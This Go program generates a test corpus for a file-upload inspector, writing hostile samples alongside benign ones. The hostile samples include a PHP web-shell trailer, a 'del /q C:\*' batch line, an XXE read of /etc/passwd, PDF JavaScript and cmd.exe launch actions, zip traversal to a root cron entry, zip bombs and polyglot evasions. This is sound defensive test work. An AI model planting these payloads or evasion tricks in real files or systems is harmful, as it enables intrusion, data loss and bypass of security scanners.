//go:build ignore

// gen writes the inspection corpus: hostile/ (each file must be refused for one exact reason,
// or, for eicar.txt, pass inspection and be left to the malware scanner) and good/ (each must
// pass). It is deterministic: `go run gen.go` in this directory rewrites the same bytes.
package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"log"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// modified is every zip entry's time, so the archives are byte-for-byte reproducible.
var modified = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func main() {
	for _, d := range []string{"hostile", "good"} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			log.Fatal(err)
		}
	}
	files := map[string][]byte{
		// The EICAR anti-virus test string: harmless text that every scanner reports. Inspection
		// must let it through (it is valid text); the malware scanner refuses it later.
		"hostile/eicar.txt":                 []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
		"hostile/pe-renamed.png":            pe(),
		"hostile/elf-named.pdf":             elf(),
		"hostile/mach-o.jpg":                machO(),
		"hostile/shebang.txt":               []byte("#!/bin/sh\necho pwned\n"),
		"hostile/batch-as.csv":              []byte("\r\n@ECHO OFF\r\ndel /q C:\\*\r\n"),
		"hostile/html-as.csv":               []byte("<html><body><script>alert(document.cookie)</script></body></html>\n"),
		"hostile/png-zip-polyglot.png":      append(pngImage(), zipOf(entry{"payload.txt", []byte("hidden")})...),
		"hostile/bomb.png":                  bombPNG(30000, 30000),
		"hostile/pdf-html-polyglot.pdf":     pdf("%<html><body><script>alert(1)</script></body></html>\n", "<< /Type /Catalog /Pages 2 0 R >>"),
		"hostile/pdf-javascript.pdf":        pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
		"hostile/pdf-javascript-hex.pdf":    pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"),
		"hostile/pdf-launch.pdf":            pdf("", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
		"hostile/pdf-embedded-file.pdf":     pdf("", "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>"),
		"hostile/pdf-objstm-javascript.pdf": objStmPDF(),
		"hostile/svg-script.svg":            []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>`),
		"hostile/svg-onload.svg":            []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"/>`),
		"hostile/svg-external-entity.svg":   []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + "\n" + `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&xxe;</text></svg>`),
		"hostile/svg-external-href.svg":     []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="https://tracker.example/pixel.png" width="1" height="1"/></svg>`),
		"hostile/docx-macro.docx":           docx(entry{"word/vbaProject.bin", []byte("\xd0\xcf\x11\xe0 VBA project stand-in")}),
		"hostile/xlsm-macro.xlsm":           xlsx("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
		"hostile/zip-bomb.zip":              zipOf(entry{"zeros.bin", make([]byte, 100<<20)}),
		"hostile/nested-zip-bomb.zip":       nestedZip(3),
		"hostile/zip-traversal.zip":         zipOf(entry{"../../etc/cron.d/x", []byte("* * * * * root sh")}),
		"hostile/zip-exe.zip":               zipOf(entry{"readme.txt", []byte("see setup")}, entry{"setup.exe", pe()}),
		"hostile/jpeg-trailer.jpg":          append(jpegImage(), []byte("<?php system($_GET['c']); ?>")...),
		// The security review's findings (M3, M4, L3, entry names).
		"hostile/pdf-objstm-indirect-filter.pdf": hexObjStmPDF("/Type /ObjStm /N 1 /First 4 /Filter 5 0 R", "/ASCIIHexDecode"),
		"hostile/pdf-objstm-untyped.pdf":         hexObjStmPDF("/N 1 /First 4 /Filter /ASCIIHexDecode", "null"),
		"hostile/pdf-encrypted-objstm.pdf":       encryptedObjStmPDF(),
		"hostile/pdf-zip-trailer.pdf":            append(append(pdf("", "<< /Type /Catalog /Pages 2 0 R >>"), zipOf(entry{"setup.exe", pe()})...), "\n%%EOF\n"...),
		"hostile/png-chunk-zip.png":              pngWithChunk("zzIp", zipOf(entry{"setup.exe", pe()})),
		"hostile/zip-hidden-entry.zip":           hiddenEntryZip(),
		"hostile/zip-html.zip":                   zipOf(entry{"invoice.html", []byte("<html><script>location='https://x.example/'</script></html>")}),
		"hostile/zip-html-content.zip":           zipOf(entry{"invoice.txt", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")}),
		"hostile/zip-disk-image.zip":             zipOf(entry{"invoice.img", []byte("a disk image stand-in")}),

		"good/image.png":   pngImage(),
		"good/photo.jpg":   jpegImage(),
		"good/anim.gif":    gifImage(),
		"good/report.pdf":  objStmCleanPDF(),
		"good/data.csv":    []byte("name,amount,date\nAlice,10.50,2026-01-02\nBob,7.25,2026-01-03\nZoë,3.00,2026-01-04\n"),
		"good/letter.docx": docx(),
		"good/sheet.xlsx":  xlsx("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
		"good/icon.svg":    []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#g"/></svg>`),
	}
	for name, b := range files {
		if err := os.WriteFile(filepath.FromSlash(name), b, 0o644); err != nil {
			log.Fatal(err)
		}
	}
}

// pe is a DOS header whose e_lfanew points at a "PE\0\0" signature and a COFF header for x86-64.
func pe() []byte {
	b := make([]byte, 0x80+24)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x8664)
	return b
}

// elf is an ELF64 header for an x86-64 executable.
func elf() []byte {
	b := make([]byte, 64)
	copy(b, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(b[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(b[18:], 0x3e) // x86-64
	return b
}

// machO is a 64-bit little-endian Mach-O header (MH_EXECUTE, x86-64).
func machO() []byte {
	b := make([]byte, 32)
	binary.LittleEndian.PutUint32(b, 0xfeedfacf)
	binary.LittleEndian.PutUint32(b[4:], 0x01000007)
	binary.LittleEndian.PutUint32(b[12:], 2)
	return b
}

func testImage() *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, 4, 3))
	for x := range 4 {
		for y := range 3 {
			img.Set(x, y, color.RGBA{uint8(60 * x), uint8(80 * y), 200, 255})
		}
	}
	return img
}

func pngImage() []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, testImage()); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func jpegImage() []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, testImage(), &jpeg.Options{Quality: 80}); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func gifImage() []byte {
	pal := color.Palette{color.Black, color.White}
	var frames []*image.Paletted
	for i := range 2 {
		f := image.NewPaletted(image.Rect(0, 0, 4, 4), pal)
		f.SetColorIndex(i, i, 1)
		frames = append(frames, f)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, &gif.GIF{Image: frames, Delay: []int{10, 10}}); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// bombPNG is a w×h 1-bit greyscale PNG whose IDAT is deflated zeros: ~100 KiB on disk, over
// 100 MB of scanlines and gigabytes of pixels once decoded.
func bombPNG(w, h int) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		crc := crc32.NewIEEE()
		crc.Write([]byte(typ))
		crc.Write(data)
		b.WriteString(typ)
		b.Write(data)
		binary.Write(&b, binary.BigEndian, crc.Sum32())
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = 1, 0 // bit depth 1, greyscale
	chunk("IHDR", ihdr)
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	row := make([]byte, 1+(w+7)/8)
	for range h {
		zw.Write(row)
	}
	zw.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

// pdf is a one-page PDF with catalog as object 1; pre is put right after the header line.
func pdf(pre, catalog string) []byte {
	return pdfObjects(pre, []string{
		catalog,
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
	})
}

// pdfObjects writes objects 1..n with a correct cross-reference table.
func pdfObjects(pre string, objs []string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + pre)
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

func deflate(s string) string {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte(s))
	zw.Close()
	return z.String()
}

func stream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// objStmPDF hides the OpenAction's JavaScript dictionary (object 4) in a FlateDecode object
// stream (ISO 32000-1 §7.5.7): no /JS key is visible in the file's raw bytes.
func objStmPDF() []byte {
	inner := "4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
	return pdfObjects("", []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
		stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflate(inner)),
	})
}

// objStmCleanPDF is a page with text in a FlateDecode content stream: what real PDFs look like.
func objStmCleanPDF() []byte {
	content := "BT /F1 12 Tf 20 100 Td (Quarterly report) Tj ET"
	return pdfObjects("", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		stream("/Filter /FlateDecode", deflate(content)),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	})
}

type entry struct {
	name string
	data []byte
}

func zipOf(es ...entry) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range es {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: modified})
		if err != nil {
			log.Fatal(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// nestedZip is depth levels of zips, each holding ten copies of the one below; the innermost
// holds 10 MB of zeros.
func nestedZip(depth int) []byte {
	z := zipOf(entry{"zeros.bin", make([]byte, 10<<20)})
	for d := range depth {
		var es []entry
		for i := range 10 {
			es = append(es, entry{fmt.Sprintf("level%d-%d.zip", d, i), z})
		}
		z = zipOf(es...)
	}
	return z
}

const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/></Relationships>`

func contentTypes(overrides ...string) []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`)
	for _, o := range overrides {
		b.WriteString(o)
	}
	b.WriteString(`</Types>`)
	return []byte(b.String())
}

// docx is a minimal Word document plus extra parts.
func docx(extra ...entry) []byte {
	es := []entry{
		{"[Content_Types].xml", contentTypes(`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`)},
		{"_rels/.rels", []byte(fmt.Sprintf(rels, "word/document.xml"))},
		{"word/document.xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`)},
	}
	return zipOf(append(es, extra...)...)
}

// xlsx is a minimal workbook whose main part has the given content type.
func xlsx(mainType string) []byte {
	return zipOf(
		entry{"[Content_Types].xml", contentTypes(`<Override PartName="/xl/workbook.xml" ContentType="` + mainType + `"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`)},
		entry{"_rels/.rels", []byte(fmt.Sprintf(rels, "xl/workbook.xml"))},
		entry{"xl/workbook.xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`)},
		entry{"xl/_rels/workbook.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)},
		entry{"xl/worksheets/sheet1.xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>`)},
	)
}

// hexObjStmPDF hides the OpenAction's JavaScript dictionary (object 4) in an ASCIIHex object
// stream whose dictionary is dict; object 5 is filter5 (a filter name given by reference).
func hexObjStmPDF(dict, filter5 string) []byte {
	inner := "4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
	return pdfObjects("", []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		stream(dict, fmt.Sprintf("%x>", inner)),
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
		filter5,
	})
}

// encryptedObjStmPDF is a PDF whose trailer names an encryption dictionary and whose object
// stream is ciphertext that happens to begin like zlib data (1 stream in ~500 does) and does
// not inflate: a reader with the empty user password would decrypt and read it, the inspector
// cannot.
func encryptedObjStmPDF() []byte {
	b := pdfObjects("", []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "x\x9c\x8a\x11\x02\x7f\x3c\xe1\x08\x55"),
		"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>",
	})
	return bytes.Replace(b, []byte("/Root 1 0 R >>"), []byte("/Root 1 0 R /Encrypt 4 0 R >>"), 1)
}

// pngWithChunk is pngImage with an ancillary chunk of type typ holding data before IEND.
func pngWithChunk(typ string, data []byte) []byte {
	img := pngImage()
	var b bytes.Buffer
	b.Write(img[:len(img)-12])
	binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	b.Write(img[len(img)-12:])
	return b.Bytes()
}

// hiddenEntryZip is a local entry "invoice.exe" left out of the central directory, then an
// archive listing only a.txt: streaming extractors that walk local headers extract both.
func hiddenEntryZip() []byte {
	var hidden bytes.Buffer
	zw := zip.NewWriter(&hidden)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "invoice.exe", Method: zip.Store, Modified: modified})
	if err != nil {
		log.Fatal(err)
	}
	w.Write(pe())
	zw.Flush()
	local := bytes.Clone(hidden.Bytes())
	var visible bytes.Buffer
	zw = zip.NewWriter(&visible)
	zw.SetOffset(int64(len(local)))
	w, err = zw.CreateHeader(&zip.FileHeader{Name: "a.txt", Method: zip.Deflate, Modified: modified})
	if err != nil {
		log.Fatal(err)
	}
	w.Write([]byte("hello"))
	if err := zw.Close(); err != nil {
		log.Fatal(err)
	}
	return append(local, visible.Bytes()...)
}
